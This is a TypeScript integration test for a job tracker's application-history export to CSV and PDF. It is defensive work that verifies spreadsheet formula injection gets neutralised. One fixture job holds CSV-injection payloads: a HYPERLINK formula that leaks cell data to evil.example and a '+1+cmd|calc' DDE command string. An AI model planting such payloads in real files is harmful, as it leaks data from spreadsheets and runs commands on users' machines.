import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { jsonResumeExample, readFixture } from '../../../tests/support/fixtures.js';
import { clientFor, expectError, register } from './http-helpers.js';
import { describeEachDatabase } from './test-app.js';

const resume = jsonResumeExample('seniorEngineer');
const posting = readFixture('jobs/software-engineer.en.txt');
type Call = ReturnType<typeof clientFor>;

async function documentFor(call: Call, jobId: string): Promise<string> {
  const started = await call('POST', '/api/v1/generations', { type: 'resume', jobId });
  expect(started.statusCode).toBe(202);
  // The finished generation's document appears in the job's documents.
  const deadline = Date.now() + 20_000;
  for (;;) {
    const [document] = (await call('GET', `/api/v1/documents?jobId=${jobId}`)).json().data ?? [];
    if (document) return document.id as string;
    if (Date.now() > deadline) throw new Error('no document');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** A user who saved three jobs, applied to one of them with a tailored resume, and moved it on. */
async function jobSeeker(app: FastifyInstance) {
  const registered = await register(app);
  const call = clientFor(app, registered.accessToken);
  await call('POST', '/api/v1/profiles/import', { format: 'json-resume', data: resume });
  const applied = (await call('POST', '/api/v1/jobs', { rawText: posting })).json();
  const documentId = await documentFor(call, applied.id);
  await call('PATCH', `/api/v1/documents/${documentId}`, {
    version: 1,
    title: 'Resume for the platform role',
  });
  const exported = (await call('POST', `/api/v1/documents/${documentId}/export`, { format: 'pdf' })).json();
  // A stated time, which must not be in the future (a fixed hour of today is, before that hour).
  const at = new Date().toISOString();
  const today = at.slice(0, 10);
  const applying = await call('PUT', `/api/v1/jobs/${applied.id}/status`, {
    applicationStatus: 'applied',
    documentIds: [documentId],
    at,
  });
  expect(applying.statusCode).toBe(200);
  await call('PUT', `/api/v1/jobs/${applied.id}/status`, { applicationStatus: 'interviewing' });
  // Spreadsheet formulas in fields a posting (or anyone) can control.
  const hostile = (
    await call('POST', '/api/v1/jobs', {
      title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      company: '+1+cmd|calc',
      location: '@SUM(A1:A9)',
      url: 'https://jobs.example.org/-1',
    })
  ).json();
  const saved = (
    await call('POST', '/api/v1/jobs', { title: 'Bookkeeper', company: 'Łódź Ledger sp. z o.o.' })
  ).json();
  return { ...registered, call, applied, hostile, saved, sha256: exported.sha256 as string, today };
}

const rowsOf = (body: string) =>
  parse(body, { bom: true, columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;

describeEachDatabase(
  '/jobs/export (application history)',
  (context) => {
    it('CSV: a header row and one row per application with stages and documents sent, formulas neutralised', async () => {
      const { app } = context();
      const ada = await jobSeeker(app);
      const response = await ada.call('GET', '/api/v1/jobs/export?format=csv');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(
        /^attachment; filename="application-history-.*\.csv"$/u,
      );
      const rows = rowsOf(response.body);
      expect(Object.keys(rows[0]!)).toEqual([
        'Title',
        'Company',
        'Location',
        'Link',
        'Current status',
        'Date saved',
        'Date applied',
        'Stage changes',
        'Documents sent',
      ]);
      expect(rows.map((row) => row.Title)).toEqual([
        ada.applied.title,
        `'${ada.hostile.title}`,
        'Bookkeeper',
      ]);
      const [applied, hostile, saved] = rows as [
        Record<string, string>,
        Record<string, string>,
        Record<string, string>,
      ];
      expect(applied).toMatchObject({
        'Current status': 'interviewing',
        'Date saved': ada.today,
        'Date applied': ada.today,
      });
      expect(applied['Stage changes']!.split('\n')).toEqual([
        `${ada.today}: saved → applied`,
        `${ada.today}: applied → interviewing`,
      ]);
      expect(applied['Documents sent']).toBe(
        `${ada.today}: Resume for the platform role, version 2, sha256 ${ada.sha256}`,
      );
      expect(hostile).toMatchObject({
        Company: "'+1+cmd|calc",
        Location: "'@SUM(A1:A9)",
        Link: 'https://jobs.example.org/-1',
      });
      expect(saved).toMatchObject({
        Company: 'Łódź Ledger sp. z o.o.',
        'Current status': 'saved',
        'Date applied': '',
        'Stage changes': '',
      });
    });

    it('PDF: the same content in the house style, readable as text', async () => {
      const { app } = context();
      const ada = await jobSeeker(app);
      const response = await ada.call('GET', '/api/v1/jobs/export?format=pdf');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('application/pdf');
      const { extractText, getDocumentProxy } = await import('unpdf');
      const { text } = await extractText(await getDocumentProxy(new Uint8Array(response.rawPayload)), {
        mergePages: true,
      });
      const flat = text.replace(/\s+/gu, ' ');
      expect(flat).toContain('Application history');
      expect(flat).toContain(ada.applied.title);
      expect(flat).toContain('Current status: interviewing');
      expect(flat).toContain(`Stage ${ada.today}: saved → applied`);
      expect(flat).toContain('Resume for the platform role, version 2');
      expect(flat).toContain(ada.sha256.slice(0, 16));
      expect(flat).toContain('Łódź Ledger sp. z o.o.');
      expect(flat).toContain('3 applications');
    });

    it('filters by period, refuses an impossible one, and shows each user only their own', async () => {
      const { app } = context();
      const ada = await jobSeeker(app);
      const csvOf = async (call: Call, query: string) =>
        rowsOf((await call('GET', `/api/v1/jobs/export?${query}`)).body);
      expect(await csvOf(ada.call, `format=csv&from=${ada.today}&to=${ada.today}`)).toHaveLength(3);
      expect(await csvOf(ada.call, 'format=csv&from=2099-01-01')).toHaveLength(0);
      expect(await csvOf(ada.call, 'format=csv&to=2000-01-01')).toHaveLength(0);
      expectError(
        await ada.call('GET', '/api/v1/jobs/export?format=csv&from=2026-05-02&to=2026-05-01'),
        422,
        'JOB.INVALID_DATE',
      );
      expectError(await ada.call('GET', '/api/v1/jobs/export?format=xlsx'), 400, 'VALIDATION.FAILED');
      expectError(
        await ada.call('GET', '/api/v1/jobs/export?format=csv&from=yesterday'),
        400,
        'VALIDATION.FAILED',
      );
      expectError(
        await app.inject({ method: 'GET', url: '/api/v1/jobs/export?format=csv' }),
        401,
        'AUTH.UNAUTHENTICATED',
      );

      const bob = await register(app);
      const bobCall = clientFor(app, bob.accessToken);
      const bobRows = await csvOf(bobCall, 'format=csv');
      expect(bobRows).toEqual([]);
      expect((await bobCall('GET', '/api/v1/jobs/export?format=pdf')).statusCode).toBe(200);
    });
  },
  { GENERATION_RATE_LIMIT_PER_HOUR: '1000' },
);
